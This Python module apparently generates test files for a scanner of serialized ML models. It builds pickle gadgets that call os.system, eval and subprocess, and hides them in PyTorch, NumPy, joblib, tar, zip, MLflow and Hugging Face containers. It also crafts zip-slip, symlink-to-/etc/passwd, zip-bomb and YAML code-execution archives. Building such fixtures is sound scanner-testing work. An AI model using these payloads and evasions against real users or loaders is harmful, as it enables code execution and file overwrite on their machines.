"""A pickle that acts inside every container that loaders open, and containers that two readers read differently or that write outside.

Frozen with scan_pickles.py. Standard library alone; archives are written by hand where a real writer refuses to.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from scan_assembler import CANARY, COMMAND, Item, boom, call, name, plain, whole

EVIL = whole(boom())
GADGETS = {
    "system": EVIL,
    "eval": whole(call("builtins", "eval", f"open({CANARY!r},'w')", protocol=2), 2),
    "runstring": whole(call("numpy.testing._private.utils", "runstring", "x", {})),
    "import": whole(call("importlib", "import_module", "antigravity")),
    "popen-newobj": whole(name("subprocess", "Popen") + plain((["touch", CANARY],)) + b"\x81"),
    "dotted": whole(name("torch.storage", "os.system") + plain((COMMAND,)) + b"R"),
    "hidden": whole(boom() + b"0" + plain({"w": [1.0]})),
    "protocol0": boom(0) + b".",
}
MAGIC, LEGACY = 0x1950A86A20F9469CFC6C, 1001


def zipped(members: dict[str, bytes], *, method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for member, content in members.items():
            archive.writestr(zipfile.ZipInfo(member), content, compress_type=method)
    return out.getvalue()


def tarred(members: dict[str, bytes], *, mode: str = "w", form: int = tarfile.PAX_FORMAT) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode, format=form) as archive:  # type: ignore[call-overload]
        for member, content in members.items():
            info = tarfile.TarInfo(member)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def torch_zip(program: bytes, *, root: str = "archive", extra: dict[str, bytes] | None = None) -> bytes:
    return zipped(
        {
            f"{root}/data.pkl": program,
            f"{root}/byteorder": b"little",
            f"{root}/data/0": bytes(16),
            f"{root}/version": b"3\n",
            **(extra or {}),
        }
    )


def torch_legacy(program: bytes, *, info: bytes | None = None, keys: bytes | None = None) -> bytes:
    long1 = MAGIC.to_bytes(10, "little")
    head = whole(b"\x8a\x0a" + long1, 2) + whole(b"M" + struct.pack("<H", LEGACY), 2)
    return head + (info or whole(plain({"protocol_version": 1001, "little_endian": True}, 2), 2)) + program + (keys or whole(b"]", 2))


def npy(program: bytes, *, descr: str = "'|O'", version: bytes = b"\x01\x00") -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY" + version + struct.pack("<H" if version[0] == 1 else "<I", len(header)) + header + program


def _wrapped(label: str, evil: bytes) -> Iterator[tuple[str, str, str, bytes | dict[str, bytes]]]:
    """(file, format, technique, content)."""
    yield "m.pt", "torch-zip", "data.pkl", torch_zip(evil)
    yield "m.pt", "torch-zip", "other-root", torch_zip(evil, root="model_final")
    yield (
        "m.pt",
        "torch-zip",
        "constants.pkl",
        torch_zip(whole(b"}", 2), extra={"archive/constants.pkl": evil, "archive/code/__torch__.py": b"x = 1\n"}),
    )
    yield "m.pt", "torch-zip", "deflated", zipped({"a/data.pkl": evil, "a/version": b"3\n"}, method=zipfile.ZIP_DEFLATED)
    yield "m.pt", "torch-zip", "bzip2-member", zipped({"a/data.pkl": evil, "a/version": b"3\n"}, method=zipfile.ZIP_BZIP2)
    yield "m.pt", "torch-zip", "lzma-member", zipped({"a/data.pkl": evil, "a/version": b"3\n"}, method=zipfile.ZIP_LZMA)
    yield "m.pt", "torch-legacy", "object", torch_legacy(evil)
    yield "m.pt", "torch-legacy", "system-info", torch_legacy(whole(b"}", 2), info=evil)
    yield "m.pt", "torch-legacy", "keys", torch_legacy(whole(b"}", 2), keys=evil)
    yield "m.pt", "torch-legacy", "behind", torch_legacy(whole(b"}", 2)) + evil
    yield "a.npy", "numpy", "object", npy(evil)
    yield "a.npy", "numpy", "object-v2", npy(evil, version=b"\x02\x00")
    yield "a.npy", "numpy", "object-v3", npy(evil, version=b"\x03\x00")
    yield "a.npy", "numpy", "object-spelt-differently", npy(evil, descr="'O'")
    yield "a.npy", "numpy", "object-in-a-record", npy(evil, descr="[('a', '<f4'), ('b', '|O')]")
    yield "a.npy", "numpy", "object-in-a-subarray", npy(evil, descr="('|O', (2,))")
    yield "a.npz", "numpy", "in-npz", zipped({"x.npy": npy(evil)})
    yield "a.npz", "numpy", "bare-in-npz", zipped({"x.npy": npy(b"", descr="'<f4'")[:-1] + b"\n" + bytes(4), "y.pkl": evil})
    yield "m.joblib", "joblib", "zlib", zlib.compress(evil)
    yield "m.joblib", "joblib", "gzip", gzip.compress(evil, mtime=0)
    yield "m.joblib", "joblib", "bz2", bz2.compress(evil)
    yield "m.joblib", "joblib", "xz", lzma.compress(evil)
    yield "m.joblib", "joblib", "lzma", lzma.compress(evil, format=lzma.FORMAT_ALONE)
    yield "m.joblib", "joblib", "zlib-twice", zlib.compress(zlib.compress(evil))
    yield "m.pkl.gz", "archive", "gzip-members", gzip.compress(whole(b"]"), mtime=0) + gzip.compress(evil, mtime=0)
    yield "a.zip", "archive", "zip", zipped({"README.md": b"# a model\n", "model.pkl": evil})
    yield "a.zip", "archive", "zip-lying-name", zipped({"README.md": evil})
    yield "a.zip", "archive", "zip-in-zip-in-zip", zipped({"a.zip": zipped({"b.zip": zipped({"c.json": evil})})})
    yield "a.zip", "archive", "zip-deflated", zipped({"model.pkl": evil}, method=zipfile.ZIP_DEFLATED)
    yield "a.tar", "archive", "tar", tarred({"config.json": b"{}", "model.pkl": evil})
    yield "a.tar", "archive", "tar-gnu", tarred({"model.pkl": evil}, form=tarfile.GNU_FORMAT)
    yield "a.tar", "archive", "tar-ustar", tarred({"model.pkl": evil}, form=tarfile.USTAR_FORMAT)
    yield "a.tgz", "archive", "tgz", tarred({"model.pkl": evil}, mode="w:gz")
    yield "a.tar.bz2", "archive", "tar-bz2", tarred({"model.pkl": evil}, mode="w:bz2")
    yield "a.tar.xz", "archive", "tar-xz", tarred({"model.pkl": evil}, mode="w:xz")
    yield "a.tar", "archive", "zip-in-tar", tarred({"m.zip": zipped({"model.pkl": evil})})
    yield "shard.tar", "webdataset", "member", tarred({"000.cls": b"1", "000.pyd": evil})
    yield "shard.tar", "webdataset", "npy-member", tarred({"000.npy": npy(evil), "000.json": b"{}"})
    yield "m.nemo", "nemo", "weights", tarred({"model_config.yaml": b"a: 1\n", "model_weights.ckpt": torch_zip(evil)}, mode="w:gz")
    yield (
        "m.mar",
        "torchserve-mar",
        "serialized-file",
        zipped(
            {
                "MAR-INF/MANIFEST.json": b'{"model": {"serializedFile": "m.pt", "handler": "image_classifier", "modelName": "x", "modelVersion": "1"}}',
                "m.pt": torch_zip(evil),
            }
        ),
    )
    yield (
        "f",
        "mlflow",
        "python-model",
        {"MLmodel": b"flavors:\n  sklearn:\n    pickled_model: model.pkl\n    sklearn_version: 1.5.0\n", "model.pkl": evil},
    )
    yield "f", "mlflow", "not-in-the-list", {"MLmodel": b"flavors:\n  onnx:\n    data: model.onnx\n", "model.onnx": evil}
    yield (
        "f",
        "hf-repo",
        "pytorch-model",
        {"config.json": b'{"architectures": ["BertModel"], "model_type": "bert"}', "pytorch_model.bin": torch_zip(evil)},
    )
    yield "f", "hf-repo", "training-args", {"config.json": b'{"model_type": "bert"}', "training_args.bin": torch_zip(evil)}
    yield "f", "hf-repo", "adapter", {"adapter_config.json": b'{"peft_type": "LORA"}', "adapter_model.bin": torch_legacy(evil)}
    yield "f", "hf-repo", "optimizer", {"config.json": b'{"model_type": "bert"}', "checkpoint-1/optimizer.pt": torch_zip(evil)}
    yield "f", "hf-repo", "scheduler-as-text", {"config.json": b'{"model_type": "bert"}', "notes.txt": evil}
    yield "m.safetensors", "pickle", "named-safetensors", evil
    yield "m.onnx", "pickle", "named-onnx", evil
    yield "m.gguf", "pickle", "named-gguf", evil
    yield "m.parquet", "pickle", "named-parquet", evil


def _two_readers() -> Iterator[tuple[str, str, bytes]]:
    good = torch_zip(whole(b"}", 2))
    evil = torch_zip(EVIL)
    yield "zip-behind-zip", "torch-zip", good + evil
    yield "zip-with-prefix", "torch-zip", b"\x7fELF" + bytes(60) + evil
    yield "zip-behind-pickle", "torch-zip", whole(b"]", 2) + evil
    yield "pickle-behind-zip", "torch-zip", evil + EVIL
    yield "comment-with-pickle", "torch-zip", _with_comment(good, EVIL)
    yield "duplicate-member", "torch-zip", _duplicate()
    yield "case-differs", "torch-zip", zipped({"a/data.pkl": whole(b"}", 2), "a/DATA.PKL": EVIL, "a/version": b"3\n"})
    yield "two-roots", "torch-zip", zipped({"a/data.pkl": whole(b"}", 2), "b/data.pkl": EVIL, "a/version": b"3\n"})
    yield "local-name-differs", "torch-zip", _patch_local(evil, b"archive/data.pkl", b"archive/datb.pkl")
    yield "crc-wrong", "torch-zip", _patch(evil, 14, b"\0\0\0\0")
    yield "sizes-zero-in-local", "torch-zip", _patch(evil, 18, bytes(8))
    yield "method-differs", "torch-zip", _patch(evil, 8, b"\x08\0")
    yield "encrypted-flag", "torch-zip", _patch(evil, 6, b"\x01\0")
    yield "strong-encryption-flag", "torch-zip", _patch(evil, 6, b"\x40\0")
    yield "masked-flag", "torch-zip", _patch(evil, 6, b"\0\x20")
    yield "end-record-lies", "torch-zip", evil[:-14] + struct.pack("<2H", 1, 1) + evil[-10:]
    yield "truncated-directory", "torch-zip", evil[:-30]
    yield "no-end-record", "torch-zip", evil[:-22]
    yield "zip-slip", "archive", zipped({"../../../tmp/vouchgate-canary/fired": b"x"})
    yield "zip-absolute", "archive", zipped({"/tmp/vouchgate-canary/fired": b"x"})
    yield "zip-backslash", "archive", zipped({"..\\..\\x": b"x"})
    yield "zip-drive", "archive", zipped({"C:/x": b"x"})
    yield "zip-null-in-name", "archive", zipped({"a.txt": b"x", "b.pkl\0.txt": EVIL})
    yield "zip-symlink", "archive", _zip_link("/etc/passwd")
    yield "zip-bomb", "archive", zipped({"a.txt": bytes(64 * 1024**2)}, method=zipfile.ZIP_DEFLATED)[:-40] + b"x" * 40
    yield "tar-hard-link", "archive", _tar_member("a", tarfile.LNKTYPE, "/etc/passwd")
    yield "tar-symlink-then-file", "archive", _tar_through_link()
    yield "tar-device", "archive", _tar_member("a", tarfile.CHRTYPE, "")
    yield "tar-fifo", "archive", _tar_member("a", tarfile.FIFOTYPE, "")
    yield "tar-pax-path", "archive", _tar_pax({"path": "../../tmp/vouchgate-canary/fired"})
    yield "tar-pax-linkpath", "archive", _tar_pax({"linkpath": "/etc"})
    yield "tar-long-name", "archive", tarred({"../" * 60 + "tmp/x": b"x"}, form=tarfile.GNU_FORMAT)
    yield "tar-wrong-checksum", "archive", tarred({"m.pkl": EVIL})[:148] + b"0000000\0" + tarred({"m.pkl": EVIL})[156:]
    yield "tar-trailing-pickle", "archive", tarred({"a.txt": b"x"}) + EVIL
    yield "tar-duplicate", "archive", _tar_twice()
    yield "gzip-trailing", "archive", gzip.compress(b"text", mtime=0) + EVIL
    yield "gzip-bad-crc", "archive", gzip.compress(EVIL, mtime=0)[:-8] + bytes(8)
    yield "rar", "archive", b"Rar!\x1a\x07\x01\x00" + EVIL
    yield "7z", "archive", b"7z\xbc\xaf\x27\x1c\x00\x04" + EVIL
    yield "cab", "archive", b"MSCF" + bytes(32) + EVIL
    yield (
        "wheel",
        "archive",
        zipped(
            {
                "x/__init__.py": b"import os\nos.system('x')\n",
                "x-1.dist-info/WHEEL": b"Wheel-Version: 1.0\n",
                "x-1.dist-info/METADATA": b"Name: x\n",
            }
        ),
    )
    yield "jar", "archive", zipped({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "X.class": b"\xca\xfe\xba\xbe" + bytes(20)})
    yield "elf-member", "archive", zipped({"model.so": b"\x7fELF\x02\x01\x01" + bytes(64)})
    yield "pth-member", "archive", zipped({"x.pth": b"import os; os.system('x')\n"})
    yield "elf", "native", b"\x7fELF\x02\x01\x01" + bytes(64)
    yield "pe", "native", b"MZ" + bytes(62) + b"PE\0\0" + bytes(64)
    yield "macho", "native", b"\xcf\xfa\xed\xfe" + bytes(64)
    yield "shell-script", "script", b"#!/bin/sh\ntouch /tmp/vouchgate-canary/fired\n"
    yield "python-bytecode", "native", b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(40)
    yield "wasm", "native", b"\0asm\1\0\0\0" + bytes(16)
    yield (
        "skops-system",
        "skops",
        _skops(
            {
                "__class__": "system",
                "__module__": "os",
                "__loader__": "FunctionNode",
                "content": {"module_path": "os", "function": "system"},
            }
        ),
    )
    yield (
        "skops-reduce",
        "skops",
        _skops({"__class__": "Popen", "__module__": "subprocess", "__loader__": "ReduceNode", "content": {}, "reduce": {}}),
    )
    yield (
        "skops-method",
        "skops",
        _skops(
            {
                "__class__": "builtin_function_or_method",
                "__module__": "builtins",
                "__loader__": "MethodNode",
                "content": {"func": "system", "obj": {"__module__": "os", "__class__": "x", "__loader__": "ObjectNode"}},
            }
        ),
    )
    yield (
        "skops-operator",
        "skops",
        _skops(
            {
                "__class__": "methodcaller",
                "__module__": "operator",
                "__loader__": "OperatorFuncNode",
                "attrs": {"content": ["system", "x"], "__module__": "builtins", "__class__": "list", "__loader__": "ListNode"},
            }
        ),
    )
    yield (
        "mar-handler",
        "torchserve-mar",
        zipped(
            {
                "MAR-INF/MANIFEST.json": b'{"model": {"handler": "handler.py", "serializedFile": "m.bin", "modelName": "x", "modelVersion": "1"}}',
                "handler.py": b"import os\nos.system('x')\n",
                "m.bin": b"x",
            }
        ),
    )
    yield (
        "mar-requirements",
        "torchserve-mar",
        zipped(
            {
                "MAR-INF/MANIFEST.json": b'{"model": {"handler": "image_classifier", "requirementsFile": "requirements.txt", "modelName": "x", "modelVersion": "1"}}',
                "requirements.txt": b"--index-url http://127.0.0.1/\nevil\n",
            }
        ),
    )
    yield (
        "nemo-target",
        "nemo",
        tarred(
            {
                "model_config.yaml": b"encoder:\n  _target_: os.system\n  command: touch /tmp/x\n",
                "model_weights.ckpt": torch_zip(whole(b"}", 2)),
            },
            mode="w:gz",
        ),
    )
    yield (
        "nemo-yaml-object",
        "nemo",
        tarred(
            {"model_config.yaml": b"a: !!python/object/apply:os.system ['x']\n", "model_weights.ckpt": torch_zip(whole(b"}", 2))},
            mode="w:gz",
        ),
    )
    yield (
        "torch-package",
        "torch-package",
        zipped(
            {
                "p/model/model.pkl": whole(name("my_module", "Net") + b")\x81"),
                "p/my_module.py": b"import os\n",
                "p/.data/extern_modules": b"os\n",
                "p/.data/version": b"6\n",
            }
        ),
    )
    yield "executorch", "native", b"\x1c\0\0\0ET12" + bytes(64)


def _with_comment(archive: bytes, comment: bytes) -> bytes:
    return archive[:-2] + struct.pack("<H", len(comment)) + comment


def _patch(archive: bytes, at: int, new: bytes) -> bytes:
    """In the first local header."""
    return archive[:at] + new + archive[at + len(new) :]


def _patch_local(archive: bytes, old: bytes, new: bytes) -> bytes:
    return archive.replace(old, new, 1)


def _duplicate() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a/data.pkl", whole(b"}", 2))
        archive.writestr("a/version", b"3\n")
        archive.writestr("a/xata.pkl", EVIL)
    return out.getvalue().replace(b"a/xata.pkl", b"a/data.pkl")


def _zip_link(target: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("link")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, target)
    return out.getvalue()


def _tar_member(member: str, kind: bytes, link: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo(member)
        info.type, info.linkname = kind, link
        archive.addfile(info)
    return out.getvalue()


def _tar_through_link() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        link = tarfile.TarInfo("d")
        link.type, link.linkname = tarfile.SYMTYPE, "/tmp/vouchgate-canary"
        archive.addfile(link)
        member = tarfile.TarInfo("d/fired")
        archive.addfile(member)
    return out.getvalue()


def _tar_pax(headers: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo("a.txt")
        info.pax_headers = headers
        if "linkpath" in headers:
            info.type = tarfile.SYMTYPE
        archive.addfile(info)
    return out.getvalue()


def _tar_twice() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for content in (b"{}", EVIL):
            info = tarfile.TarInfo("config.json")
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def _skops(node: dict[str, object]) -> bytes:
    import json

    schema = {"protocol": 2, "_skops_version": "0.12", **node, "__id__": 1}
    return zipped({"schema.json": json.dumps(schema).encode()})


def items() -> Iterator[Item]:
    """Every container around every one of a few gadgets; then what two readers read differently."""
    for label, evil in GADGETS.items():
        for file, form, technique, content in _wrapped(label, evil):
            yield Item(file, form, f"in:{form}:{technique}:{label}", content, pickled=True)
    for technique, form, content in _two_readers():
        pickled = form in ("torch-zip", "torch-package") or technique in ("tar-wrong-checksum", "tar-duplicate", "tar-trailing-pickle")
        yield Item("x", form, f"container:{technique}", content, pickled=pickled)
